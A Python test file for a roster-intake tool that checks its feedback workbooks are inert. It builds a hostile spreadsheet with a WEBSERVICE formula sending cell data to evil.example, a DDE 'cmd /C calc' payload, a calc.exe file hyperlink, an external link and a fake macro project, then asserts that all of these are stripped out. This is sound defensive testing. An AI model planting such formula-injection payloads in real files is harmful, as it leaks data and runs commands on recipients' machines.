"""Issue 20 points 5 and 6: sheets are recognised by content, not by name; the feedback workbook is inert.

- Only a sheet sureform itself wrote (its marker: a custom document property holding a digest of the sheet's
  name) is skipped as feedback; a sender's sheet named 问题清单 is read like any other.
- The copy of the sender's workbook in the feedback keeps values and styles only: no data validations with
  formulas (`=WEBSERVICE(…)`, DDE `cmd|' /C calc'!A0`), no conditional-format formulas, no hyperlink to a file or a
  site, no macros, external links or defined names. Checked with openpyxl and in the unzipped XML.
"""
from __future__ import annotations

import re
import zipfile
from pathlib import Path

from conftest import HEADER, codes, file_report, person, settle

from sureform.issues import ERROR
from sureform.outputs.feedback import FILLS, LIST_SHEET

CALC = "file:///C:/Windows/System32/calc.exe"
DDE = "cmd|' /C calc'!A0"
WEBSERVICE = 'WEBSERVICE("http://evil.example/?q="&A2)'


def people(unit: str, n: int, start: int = 0) -> list[list]:
    return [person(name=f"某{i}", sid=f"2024{start + i:06d}", unit=unit) for i in range(n)]


def feedback_file(env, unit: str, name: str) -> Path:
    found = [p for p in env.outbox.rglob(f"{name}_错误标注.xlsx") if unit in p.parts]
    assert len(found) == 1, list(env.outbox.rglob("*.xlsx"))
    return found[0]


# ---- point 5 --------------------------------------------------------------------------------------------------
def test_a_roster_on_a_sheet_named_like_the_feedback_list_is_read(env):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    for row in [HEADER, *people("石油工程系", 2)]:
        ws.append(row)
    listed = wb.create_sheet(LIST_SHEET)
    for row in [HEADER, *people("石油工程系", 45, start=100)]:
        listed.append(row)
    path = env.inbox / "石油工程系" / "名单.xlsx"
    path.parent.mkdir(parents=True)
    wb.save(path)
    settle(path)
    report = env.run()
    f = file_report(report, "石油工程系/名单.xlsx")
    assert f["status"] == "accepted", f["issues"]
    assert f["rows"] == 47


def test_a_feedback_workbook_dropped_back_in_skips_only_the_sheets_it_marked(env):
    """The feedback of a rejected roster, corrected and put back as it is: its issue list (marked) is not read,
    the sender's sheet is; a second, unmarked sheet the sender added and named 问题清单2 is read too."""
    from openpyxl import load_workbook

    env.roster("石油工程系", [person(), person(name="李四", sid="2024010102", political="群众"),
                              person(name="王五", sid="20240101xx!")])
    report = env.run()
    assert file_report(report, "石油工程系/名单.xlsx")["status"] == "rejected"
    back = feedback_file(env, "石油工程系", "名单.xlsx")
    wb = load_workbook(back)
    assert wb.sheetnames[0] == LIST_SHEET
    wb["Sheet1"]["B4"].value = "2024010103"  # corrected
    extra = wb.create_sheet(f"{LIST_SHEET}2")
    for row in [HEADER, person(name="赵六", sid="2024010104")]:
        extra.append(row)
    again = env.inbox / "石油工程系" / back.name
    wb.save(again)
    settle(again)
    report = env.run()
    f = file_report(report, f"石油工程系/{back.name}")
    assert f["status"] == "accepted", f["issues"]
    assert f["rows"] == 4  # three on Sheet1, one on the unmarked 问题清单2; the marked list not read
    assert "kind-unknown" not in codes(f)


def test_the_marker_is_a_digest_of_the_sheet_name():
    """A marker names sheets by a digest of their names: renaming the list sheet un-marks it."""
    from sureform.intake.grid import FEEDBACK_MARK, feedback_digest

    assert feedback_digest(LIST_SHEET) != feedback_digest(LIST_SHEET + "2")
    assert re.fullmatch(r"[0-9a-f]{32}", feedback_digest(LIST_SHEET)) and FEEDBACK_MARK == "sureform-feedback"


# ---- point 6 --------------------------------------------------------------------------------------------------
def hostile_workbook(path: Path) -> Path:
    """A roster (one bad 学号, so that feedback is written) carrying every active part openpyxl keeps."""
    from openpyxl import Workbook
    from openpyxl.formatting.rule import CellIsRule, FormulaRule
    from openpyxl.styles import PatternFill
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation
    from openpyxl.worksheet.hyperlink import Hyperlink
    from openpyxl.worksheet.table import Table, TableColumn, TableFormula

    path.parent.mkdir(parents=True, exist_ok=True)
    wb = Workbook()
    ws = wb.active
    ws.title = "名单"
    for row in [HEADER, person(), person(name="李四", sid="bad!")]:
        ws.append(row)
    ws["L1"] = "链接"
    ws["L2"] = "打开"
    ws["L2"].hyperlink = CALC
    ws["L3"] = "网站"
    ws["L3"].hyperlink = Hyperlink(ref="L3", target="http://evil.example/", display="网站")
    ws["A2"].fill = PatternFill("solid", fgColor="FF00B050")  # the sender's own style stays
    web = DataValidation(type="custom", formula1=WEBSERVICE)
    web.add("A2:A3")
    dde = DataValidation(type="list", formula1=DDE)
    dde.add("F2:F3")
    ws.add_data_validation(web)
    ws.add_data_validation(dde)
    ws.conditional_formatting.add("B2:B3", FormulaRule(formula=[WEBSERVICE], fill=PatternFill("solid", fgColor="FFFF0000")))
    ws.conditional_formatting.add("C2:C3", CellIsRule(operator="equal", formula=[DDE], fill=PatternFill("solid", fgColor="FF0000FF")))
    wb.defined_names["evil"] = DefinedName("evil", attr_text=DDE)
    table = Table(displayName="T1", ref="N1:O3")
    table.tableColumns = [TableColumn(id=1, name="a"), TableColumn(id=2, name="b", calculatedColumnFormula=TableFormula(attr_text=WEBSERVICE))]
    ws["N1"], ws["O1"] = "a", "b"
    ws.add_table(table)
    wb.save(path)
    # macros and an external link, as Excel writes them, patched into the package
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 508  # an OLE header: what a macro project starts with
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink '
        b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1">'
        b'<sheetNames><sheetName val="x"/></sheetNames></externalBook></externalLink>')
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        b'Target="file:///C:/Windows/System32/evil.xlsx" TargetMode="External"/></Relationships>')
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLink" Target="externalLinks/externalLink1.xml"/><Relationship Id="rIdV1" '
        b'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
        b"</Relationships>")
    wbxml = parts["xl/workbook.xml"]
    wbxml = re.sub(rb"(</sheets>)", rb'\1<externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/'
                   rb'officeDocument/2006/relationships" r:id="rIdX1"/></externalReferences>', wbxml)
    parts["xl/workbook.xml"] = wbxml
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/><Default Extension="bin" '
        b'ContentType="application/vnd.ms-office.vbaProject"/></Types>').replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    settle(path)
    return path


def test_the_feedback_copy_of_the_senders_workbook_is_inert(env):
    from openpyxl import load_workbook

    env.roster("机电工程系", [person(sid="2024020101", unit="机电工程系")])  # a good file beside it
    hostile_workbook(env.inbox / "石油工程系" / "名单.xlsm")
    report = env.run()
    assert file_report(report, "机电工程系/名单.xlsx")["status"] == "accepted"
    f = file_report(report, "石油工程系/名单.xlsm")
    assert f["status"] == "rejected" and "student-id-invalid" in codes(f), f
    back = feedback_file(env, "石油工程系", "名单.xlsm")

    wb = load_workbook(back)
    assert wb.sheetnames == [LIST_SHEET, "名单"]
    ws = wb["名单"]
    assert ws["B3"].comment is not None and ws["B3"].fill.fgColor.rgb == FILLS[ERROR]  # sureform's own mark
    assert ws["A2"].fill.fgColor.rgb == "FF00B050"  # the sender's style is kept
    assert ws["L2"].value == "打开" and ws["L2"].hyperlink is None  # the text stays, the link is gone
    assert ws["L3"].hyperlink is None
    for sheet in wb.worksheets:
        assert not sheet.data_validations.dataValidation
        assert not list(sheet.conditional_formatting)
        assert not sheet.tables
        for row in sheet.iter_rows():
            for c in row:
                assert c.hyperlink is None or (not c.hyperlink.target and c.hyperlink.location), c.coordinate
    assert not [n for n in wb.defined_names if not n.startswith("_xlnm.")]
    assert not wb._external_links and wb.vba_archive is None
    # sureform's own links (问题清单 → the cell) point inside the workbook
    own = [c.hyperlink for row in wb[LIST_SHEET].iter_rows() for c in row if c.hyperlink is not None]
    assert own and all(h.location and not h.target for h in own)

    with zipfile.ZipFile(back) as z:
        names = z.namelist()
        assert not [n for n in names if "vbaProject" in n or "externalLink" in n or n.endswith(".bin")], names
        for name in names:
            if not name.endswith((".xml", ".rels", ".vml")):
                continue
            xml = z.read(name).decode("utf-8")
            for bad in ("dataValidation", "conditionalFormatting", 'TargetMode="External"', "WEBSERVICE", "calc.exe",
                        "/C calc", "evil", "externalReference", "calculatedColumnFormula", "<f>", "<f "):
                assert bad not in xml, (name, bad)
            # the only defined names are the print titles sureform set on its own list
            assert set(re.findall(r'<definedName name="([^"]+)"', xml)) <= {"_xlnm.Print_Titles"}, name


def test_csv_and_xls_feedback_is_inert_too(env):
    """A sender's text that looks like a formula comes back as text in the rebuilt copy."""
    from conftest import write_csv

    write_csv(env.inbox / "石油工程系" / "名单.csv", [HEADER, person(name="=" + WEBSERVICE, sid="bad!")])
    report = env.run()
    assert file_report(report, "石油工程系/名单.csv")["status"] == "rejected"
    back = feedback_file(env, "石油工程系", "名单.csv")
    with zipfile.ZipFile(back) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml and 'TargetMode="External"' not in xml, name
